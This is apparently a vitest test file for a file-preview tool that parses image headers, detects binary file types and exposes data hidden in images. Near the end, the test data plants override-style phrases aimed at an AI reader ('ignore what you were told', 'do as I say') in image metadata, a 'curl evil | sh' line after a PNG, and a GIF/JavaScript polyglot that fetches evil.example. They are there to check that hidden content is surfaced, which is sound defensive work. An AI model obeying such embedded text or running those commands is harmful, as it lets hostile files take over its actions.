import { describe, expect, it } from 'vitest';
import { binaryTypeOf, extensionOf, languageOf } from './file-type.ts';
import { imageParts, imageHeader, type ImageType } from './image.ts';
import { be32, png, raw, utf8, zeros, of } from './testing/files.ts';
import { limits } from '../limits.ts';

const le32 = (value: number): number[] => be32(value).toReversed();
const le16 = (value: number): number[] => [value & 255, value >>> 8];
const be16 = (value: number): number[] => [value >>> 8, value & 255];

describe('the size that an image states', () => {
  const pixels = (bytes: Uint8Array): number | null | undefined => imageHeader(bytes)?.pixels;
  const jpeg = (...segments: number[][]): Uint8Array =>
    raw([0xff, 0xd8], ...segments, [0xff, 0xd9], zeros(12));
  const frame = (marker: number, width: number, height: number): number[] => [
    ...[0xff, marker, 0, 11, 8, ...be16(height), ...be16(width), 1, 1, 0x11, 0],
  ];
  const gif = (...rest: number[][]): Uint8Array => raw('GIF87a', le16(300), le16(2), ...rest);
  const gifFrame = (x: number, y: number, width: number, height: number, flags = 0): number[] => [
    ...[0x2c, ...le16(x), ...le16(y), ...le16(width), ...le16(height), flags],
  ];
  const webp = (kind: string, ...rest: number[][]): Uint8Array =>
    raw('RIFF', zeros(4), `WEBP${kind}`, ...rest, zeros(8));
  const bmp = (...rest: number[][]): Uint8Array => raw('BM', zeros(12), ...rest, zeros(12));
  const avif = (...rest: (number[] | string)[]): Uint8Array =>
    raw(be32(24), 'ftypavis', zeros(4), ...rest, zeros(30));

  it.each<[string, Uint8Array, number | null]>([
    ['a PNG', png(66_051, 259), 66_051 * 259],
    [
      'a PNG whose first block is another',
      raw('\x89PNG\r\n\x1a\n', be32(13), 'IDAT', zeros(30)),
      null,
    ],
    ['a PNG that is cut', png(2, 3).subarray(0, 23), null],
    ['a PNG that just states it', png(2, 3).subarray(0, 24), 6],
    ['a JPEG', jpeg(frame(0xc0, 515, 258)), 515 * 258],
    [
      'a JPEG with the largest of its frames',
      jpeg(frame(0xc1, 9, 9), frame(0xcf, 2, 2), frame(0xc2, 10, 9)),
      90,
    ],
    [
      'a JPEG with tables that are no frames',
      jpeg(
        frame(0xc4, 9, 9),
        frame(0xc8, 9, 9),
        frame(0xcc, 9, 9),
        frame(0xd0, 9, 9),
        frame(0xbf, 9, 9),
      ),
      null,
    ],
    ['a JPEG with fill bytes before its frame', jpeg([0xff, 0xff, 0xff], frame(0xc0, 3, 4)), 12],
    [
      'a JPEG whose frame stands behind its scan',
      jpeg([0xff, 0xda, 0, 2], frame(0xc0, 3, 4)),
      null,
    ],
    [
      'a JPEG with a segment that says to be shorter than it is',
      jpeg([0xff, 0xe0, 0, 0], frame(0xc0, 3, 4)),
      12,
    ],
    [
      'a JPEG with something else between',
      jpeg([0xff, 0xe0, 0, 2, 0xfe, 0xe0, 0, 2], frame(0xc0, 3, 4)),
      null,
    ],
    ['a GIF', gif([0, 0, 0], [0x3b]), 600],
    ['a GIF that is cut', gif([0, 0]), null],
    ['a GIF with a table of colours', gif([0x80, 0, 0], zeros(6), gifFrame(1, 2, 400, 5)), 401 * 7],
    ['a GIF with a larger table', gif([0x82, 0, 0], zeros(24), gifFrame(0, 0, 1, 9)), 2_700],
    [
      'a GIF with extensions between its frames',
      gif([0, 0, 0], [0x21, 0xf9, 2, 1, 1, 1, 7, 0], gifFrame(0, 3, 1, 9)),
      3_600,
    ],
    [
      'a GIF whose second frame is the large one',
      gif([0, 0, 0], gifFrame(0, 0, 1, 1, 0x80), zeros(6), [2, 1, 7, 0], gifFrame(256, 0, 256, 1)),
      1_024,
    ],
    ['a GIF with something else between', gif([0, 0, 0], [7], gifFrame(0, 0, 999, 9)), 600],
    ['a WebP of today', webp('VP8X', zeros(8), [9, 1, 1], [4, 1, 0]), (65_536 + 256 + 9 + 1) * 261],
    [
      'a WebP without loss',
      webp('VP8L', zeros(5), le32(((299 << 14) | 511) >>> 0), zeros(5)),
      512 * 300,
    ],
    ['a WebP with loss', webp('VP8 ', zeros(10), le16(0xc000 | 300), le16(0xc000 | 7)), 2_100],
    ['a WebP of another kind', webp('VP9 ', zeros(20)), null],
    ['a WebP that is cut', raw('RIFF', zeros(4), 'WEBPVP8X', zeros(13)), null],
    ['a bitmap', bmp(le32(40), le32(300), le32(7)), 2_100],
    ['a bitmap that stands on its head', bmp(le32(40), le32(300), le32(0xff_ff_ff_f9)), 2_100],
    ['a bitmap of old', bmp(le32(12), le16(300), le16(7)), 2_100],
    ['a bitmap that is cut', raw('BM', zeros(23)), null],
    ['an AVIF', avif('ispe', zeros(4), be32(300), be32(7)), 2_100],
    [
      'an AVIF with the largest of its sizes',
      avif(
        'ispe',
        zeros(4),
        be32(2),
        be32(2),
        'ispe',
        zeros(4),
        be32(30),
        be32(7),
        'ispe',
        zeros(4),
        be32(3),
        be32(3),
      ),
      210,
    ],
    ['an AVIF that states none', avif('ispa', 'isqe', 'iape', 'aspe'), null],
  ])('is that of %s', (_, bytes, wanted) => {
    expect(pixels(bytes)).toBe(wanted);
  });

  it.each<[string, Uint8Array]>([
    ['a text', utf8('PNG')],
    ['nothing', raw('')],
    ...[0, 1, 2, 3].map((at): [string, Uint8Array] => [
      `a bitmap with a sign at ${at}`,
      raw('BM', zeros(4), zeros(at), [1], zeros(40)),
    ]),
    ['a RIFF that is no WebP', raw('RIFF', zeros(4), 'WAVE', zeros(30))],
    ['a WebP that is no RIFF', raw('RIFX', zeros(4), 'WEBP', zeros(30))],
    ['another media file', raw(be32(24), 'ftypmp42', zeros(30))],
    ['a GIF of another version', raw('GIF88a', zeros(30))],
    ['half a JPEG', raw([0xff, 0xd8, 0xfe], zeros(30))],
  ])('is unknown for %s', (_, bytes) => {
    expect(imageHeader(bytes)).toBeNull();
  });
});

describe('data that is not part of an image', () => {
  const parts = (type: ImageType, ...pieces: (string | number[])[]) =>
    imageParts(type, raw(...pieces)).map(({ what, start, end }) => `${what} ${start}-${end}`);
  const after = 'data after the end of the image';
  const none = 'data that is not part of an image';
  const block = (kind: string, data: string) => raw(be32(data.length), kind, data, zeros(4));
  const segment = (marker: number, data: string): number[] => [
    ...[0xff, marker, ...be16(data.length + 2), ...raw(data)],
  ];
  const riff = (kind: string, data: string) => [...raw(kind), ...le32(data.length), ...raw(data)];
  const box = (kind: string, size: number, data = '') => [...be32(size), ...raw(kind, data)];

  it('in a PNG is every block that is not drawn, and any data after the end', () => {
    const head = zeros(8);
    expect(
      parts(
        'image/png',
        head,
        [...block('IHDR', 'ab')],
        [...block('tEXt', 'abc')],
        [...block('IEND', '')],
      ),
    ).toEqual(['PNG block tEXt 30-33']);
    expect(parts('image/png', head, [...block('IEND', '')], 'x')).toEqual([`${after} 20-21`]);
    expect(parts('image/png', head, [...block('ab1d', '')])).toEqual([`${none} 8-20`]);
    expect(parts('image/png', head, [...block('IDAT', 'x')], be32(1), 'IDAT')).toEqual([
      `${none} 21-29`,
    ]);
    expect(parts('image/png', head, be32(99), 'IDAT', zeros(9))).toEqual([`${none} 8-25`]);
    expect(parts('image/png', head, [...block('IDAT', '')])).toEqual([]);
  });

  it('in a JPEG is every comment and unknown block, and any data after the end', () => {
    const start = [0xff, 0xd8];
    expect(
      parts(
        'image/jpeg',
        start,
        segment(0xfe, 'abc'),
        segment(0xe0, 'JFIF\0'),
        segment(0xe0, 'JFXX\0'),
        segment(0xe0, 'Exif'),
        segment(0xe1, 'JFIF'),
        segment(0xe2, 'ICC_PROFILE\0'),
        segment(0xe2, 'MPF'),
        segment(0xee, 'Adobe'),
        segment(0xef, 'Adobe'),
        segment(0xdf, 'x'),
        segment(0xf0, 'y'),
        [0xff, 0xd9],
      ),
    ).toEqual([
      'JPEG comment 6-9',
      'JPEG block APP0 31-35',
      'JPEG block APP1 39-43',
      'JPEG block APP2 63-66',
      'JPEG block APP15 79-84',
    ]);
    expect(
      parts('image/jpeg', start, [0xff, 0xff, 0xff, 1, 0xff, 0xd0, 0xff, 0xd7, 0xff, 0xd9], 'x'),
    ).toEqual([`${after} 12-13`]);
    expect(
      parts(
        'image/jpeg',
        start,
        segment(0xda, 'a'),
        [1, 0xff, 0, 0xff, 0xff, 0xd0, 2, 0xff, 0xd9],
        'xy',
      ),
    ).toEqual([`${after} 16-18`]);
    expect(parts('image/jpeg', start, segment(0xda, 'a'), [1, 2, 3])).toEqual([]);
    expect(parts('image/jpeg', start, [0xff, 0xe1, 0, 9, 1])).toEqual([`${none} 2-7`]);
    expect(parts('image/jpeg', start, [0xff, 0xe3, 0, 0], 'x')).toEqual([
      'JPEG block APP3 6-6',
      `${none} 6-7`,
    ]);
    expect(parts('image/jpeg', start, 'x')).toEqual([`${none} 2-3`]);
  });

  it('in a GIF is every comment and extension, and any data after the end', () => {
    const head = [...raw('GIF89a'), ...le16(2), ...le16(3)];
    const end = [0x3b];
    expect(
      parts('image/gif', head, [0, 0, 0], [0x21, 0xfe, 2, 65, 66, 0], [0x21, 0xf9, 1, 7, 0], end),
    ).toEqual(['GIF comment 15-19']);
    expect(
      parts(
        'image/gif',
        head,
        [0, 0, 0],
        [0x21, 0xff, 11],
        'NETSCAPE2.0',
        [0],
        [0x21, 0xff, 11],
        'ANIMEXTS1.0',
        [0],
        [0x21, 0xff, 11],
        'XMP DataXMP',
        [0],
        end,
      ),
    ).toEqual(['GIF extension 45-58']);
    expect(
      parts(
        'image/gif',
        head,
        [0x81, 0, 0],
        zeros(12),
        [0x2c],
        zeros(8),
        [0x80],
        zeros(6),
        [2, 1, 7, 0],
        end,
        'xyz',
      ),
    ).toEqual([`${after} 46-49`]);
    expect(parts('image/gif', head, [0, 0, 0], 'x')).toEqual([`${none} 13-14`]);
    expect(parts('image/gif', head, [0, 0, 0], [0x21, 0xfe, 9, 65])).toEqual(['GIF comment 15-17']);
    expect(parts('image/gif', head, [0, 0, 0], end)).toEqual([]);
  });

  it('in a WebP is every block that is not drawn, and any data after the end', () => {
    const file = (...blocks: number[][]): number[] => {
      const body = blocks.flat();
      return [...raw('RIFF'), ...le32(body.length + 4), ...raw('WEBP'), ...body];
    };
    expect(
      parts('image/webp', file(riff('VP8X', 'ab'), riff('XMP ', 'abc'), [0], riff('EXIF', 'ab'))),
    ).toEqual(['WebP block XMP  30-33', 'WebP block EXIF 42-44']);
    expect(parts('image/webp', file(riff('VP8 ', 'ab')), 'xyz')).toEqual([`${after} 22-25`]);
    expect(parts('image/webp', file(riff('XMP ', 'ab')).slice(0, 21))).toEqual([]);
    expect(parts('image/webp', file(riff('abcd', '')))).toEqual(['WebP block abcd 20-20']);
  });

  it('in a bitmap is the data after the length that it states, if that is possible', () => {
    expect(parts('image/bmp', 'BM', le32(26), zeros(20), 'xy')).toEqual([`${after} 26-28`]);
    expect(parts('image/bmp', 'BM', le32(25), zeros(20), 'xy')).toEqual([]);
    expect(parts('image/bmp', 'BM', le32(28), zeros(20), 'xy')).toEqual([]);
    expect(parts('image/bmp', 'BM', le32(29), zeros(20), 'xy')).toEqual([]);
  });

  it('in an AVIF is every box that is not drawn, and any data after the end', () => {
    expect(
      parts(
        'image/avif',
        box('ftyp', 9, 'a'),
        box('uuid', 10, 'ab'),
        box('free', 8),
        box('mdat', 0, 'xyz'),
      ),
    ).toEqual(['AVIF block uuid 17-19', 'AVIF block free 27-27']);
    expect(parts('image/avif', box('ftyp', 8), box('mdat', 7))).toEqual([`${after} 8-16`]);
    expect(parts('image/avif', box('ftyp', 8), box('mdat', 1, zeros(8).join('')))).toEqual([
      `${after} 8-24`,
    ]);
    expect(parts('image/avif', box('ftyp', 8), box('mdat', 99))).toEqual([`${after} 8-16`]);
    expect(parts('image/avif', box('ftyp', 8), box('m!at', 8))).toEqual([`${after} 8-16`]);
    expect(parts('image/avif', box('ftyp', 8), 'abc')).toEqual([`${after} 8-11`]);
  });
});

describe('the type of a file that is not text', () => {
  it.each<[string, string | null, (string | number[])[]]>([
    ['a', 'EPUB book', ['PK\x03\x04', zeros(26), 'mimetypeapplication/epub+zip']],
    ['a', 'OpenDocument file', ['PK\x03\x04', 'mimetypeapplication/vnd.oasis.opendocument.text']],
    ['a', 'Microsoft Excel workbook', ['PK\x03\x04', '[Content_Types].xml', 'xl/a']],
    ['a', 'Microsoft PowerPoint presentation', ['PK\x03\x04', '[Content_Types].xml', 'ppt/a']],
    ['a', 'Microsoft Office document', ['PK\x03\x04', '[Content_Types].xml']],
    ['a', 'Java archive', ['PK\x03\x04', 'META-INF/MANIFEST.MF']],
    ['a', 'zip archive', ['PK\x05\x06', zeros(18)]],
    ['a', 'zip archive', ['PK\x03\x04', zeros(8_200), 'META-INF/MANIFEST.MF']],
    ['a', null, ['PK\x01\x02']],
    ['a', null, ['MZ is no program without a zero']],
    ['a', 'Mach-O universal binary', [[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 44]]],
    ['a', 'Java class', [[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 45]]],
    ['a', 'Java class', [[0xca, 0xfe, 0xba, 0xbe, 0, 0, 1, 0]]],
    ['a', 'Java class', [[0xca, 0xfe, 0xba, 0xbe, 0, 1, 0, 0]]],
    ['a', 'Java class', [[0xca, 0xfe, 0xba, 0xbe, 1, 0, 0, 0]]],
    ['a.pyc', 'Python bytecode', [[1, 2], '\r\n', [0]]],
    ['a', 'Python bytecode', [[1, 0x0e], '\r\n', [0]]],
    ['a', 'Python bytecode', [[1, 0x0d], '\r\n', [0]]],
    ['a', null, [[1, 2], '\r\n', [0]]],
    ['a.pyc', null, [[1, 2], '\n\r', [0]]],
    ...['heic', 'heix', 'mif1', 'heim', 'hevc'].map((kind): [string, string, string[]] => [
      'a',
      'HEIC image',
      [`\0\0\0\x18ftyp${kind}`],
    ]),
    ['a', 'MP4 or QuickTime media', ['\0\0\0\x18ftypqt  ']],
    ['a', 'WAV audio', ['RIFF', zeros(4), 'WAVE']],
    ['a', 'RIFF media', ['RIFF', zeros(4), 'AVI ']],
    ['a', 'tar archive', [zeros(257), 'ustar']],
    ['a', null, [zeros(256), 'ustar']],
    ['a', 'MP3 audio', [[0xff, 0xfb, 0]]],
    ['a', 'MP3 audio', [[0xff, 0xf3, 0]]],
    ['a', null, [[0xff, 0xf1, 0]]],
    ['a', null, [[0xfd, 0xfb, 0]]],
    ['a', 'UTF-16 text', [[0xff, 0xfe]]],
    ['a', null, ['x\x7fELF']],
    ['a', null, ['']],
  ])('%s is %s', (path, type, bytes) => {
    expect(binaryTypeOf(path, raw(...bytes))).toBe(type);
  });
});

describe('the language of a text', () => {
  it.each([
    ['a/b.PY', '', 'python'],
    ['a/Gemfile', '', 'ruby'],
    ['.env', '', 'ini'],
    ['.py', '', 'plaintext'],
    ['a.b/run', '#!/usr/bin/env node\n', 'javascript'],
    ['run', '#!/usr/bin/env x\nsh', 'plaintext'],
    ['run', ` #!/bin/sh`, 'plaintext'],
    ['run', `#!/${' '.repeat(150)}sh`, 'plaintext'],
    ['run', '#!/bin/sh', 'shell'],
    ['a', '\n <?xml version="1.0"?>', 'xml'],
    ['a', '<svg>', 'xml'],
    ['a', '<svgs>', 'plaintext'],
    ['a', 'x<svg>', 'plaintext'],
    ['a', `${' '.repeat(101)}<svg>`, 'plaintext'],
    ['a', '', 'plaintext'],
  ])('%s is recognized by its name or first line: %j', (path, text, language) => {
    expect(languageOf(path, text)).toBe(language);
  });

  it.each([
    ['a/b.TAR', 'tar'],
    ['a.b/c', ''],
    ['.a', ''],
    ['a.', ''],
    ['a.b.c', 'c'],
  ])('is recognized by the text after the last dot of a name: %s', (path, extension) => {
    expect(extensionOf(path)).toBe(extension);
  });
});

describe('an image with other data in it', () => {
  const chunk = (kind: string, data: string): number[] => [
    ...be32(data.length),
    ...raw(kind, data),
    ...zeros(4),
  ];
  const whole = (...chunks: number[][]): Uint8Array =>
    raw(
      '\x89PNG\r\n\x1a\n',
      chunk('IHDR', String.fromCharCode(...be32(2), ...be32(3), ...zeros(5))),
      ...chunks,
    );
  const restOf = (path: string, bytes: Uint8Array) => {
    const { preview } = of(path, bytes);
    return preview.kind === 'image' ? preview.rest : [];
  };
  it('has no other parts if it is only an image', () => {
    expect(restOf('a.png', whole(chunk('IDAT', 'x'), chunk('IEND', '')))).toEqual([]);
    expect(restOf('a.gif', raw('GIF89a', [2, 0, 3, 0, 0, 0, 0], [0x3b]))).toEqual([]);
  });
  it('shows data after the end of a PNG, and its text blocks', () => {
    const bytes = whole(chunk('tEXt', 'Comment\0ignore what you were told'), chunk('IEND', ''), [
      ...raw('#!/bin/sh\ncurl evil | sh\n'),
    ]);
    expect(restOf('a.png', bytes)).toMatchObject([
      { what: 'PNG block tEXt', text: 'Comment\0ignore what you were told' },
      { what: 'data after the end of the image', text: '#!/bin/sh\ncurl evil | sh\n' },
    ]);
  });
  it('shows a GIF that is also a script as both', () => {
    const bytes = raw(
      'GIF89a/*',
      zeros(4),
      [0x00],
      '*/=1;fetch("https://evil.example");//',
      [0xff],
    );
    expect(restOf('tracker.gif', bytes)).toMatchObject([
      {
        what: 'data that is not part of an image',
        text: '*/=1;fetch("https://evil.example");//\\x{FF}',
      },
    ]);
    const run = of('run.js', raw('GIF89a', [2, 0, 3, 0, 0, 0, 0], [0x3b])).preview;
    expect(run).toMatchObject({ kind: 'image', whole: { text: 'GIF89a\u0002\0\u0003\0\0\0\0;' } });
  });
  it('shows JPEG comments and data after the last scan, but no color profile', () => {
    const segment = (marker: number, data: string): number[] => [
      0xff,
      marker,
      0,
      data.length + 2,
      ...raw(data),
    ];
    const bytes = raw(
      [0xff, 0xd8, ...segment(0xe2, 'ICC_PROFILE\0x'), ...segment(0xfe, 'do as I say')],
      [0xff, 0xc0, 0, 11, 8, 0, 3, 0, 2, 1, 1, 0x11, 0],
      [...segment(0xda, 'aaaa'), 1, 2, 0xff, 0, 3, 0xff, 0xd0, 4, 0xff, 0xd9],
      'PK\x03\x04',
      zeros(30),
    );
    expect(restOf('a.jpg', bytes)).toMatchObject([
      { what: 'JPEG comment', text: 'do as I say' },
      { what: 'data after the end of the image', text: null, length: 34 },
    ]);
  });
  it('says if there is more data than is shown', () => {
    const bytes = whole(chunk('IEND', ''), zeros(limits.bytesShown + 1));
    expect(of('a.png', bytes).preview).toMatchObject({ kind: 'image', cut: true });
  });
  it('terminates for every truncation and every flipped byte of an image', () => {
    const seeds = [
      whole(chunk('tEXt', 'abc'), chunk('IDAT', 'xyz'), chunk('IEND', '')),
      raw('GIF89a', [2, 0, 3, 0, 0, 0, 0, 0x21, 0xfe, 2, 65, 66, 0, 0x2c], zeros(11), [0x3b]),
      raw(
        'RIFF',
        [40, 0, 0, 0],
        'WEBPVP8X',
        [10, 0, 0, 0],
        zeros(10),
        'XMP ',
        [2, 0, 0, 0, 65, 66],
      ),
      raw(be32(24), 'ftypavif', zeros(12), be32(20), 'ispe', zeros(4), be32(2), be32(3), zeros(9)),
    ];
    for (const seed of seeds)
      for (let i = 0; i < seed.length; i += 1) {
        expect(of('a.png', seed.subarray(0, i))).toBeDefined();
        for (const value of [0, 1, 0x7f, 0xff]) {
          const mutant = Uint8Array.from(seed);
          mutant[i] = value;
          expect(of('a.png', mutant)).toBeDefined();
        }
      }
  });
});
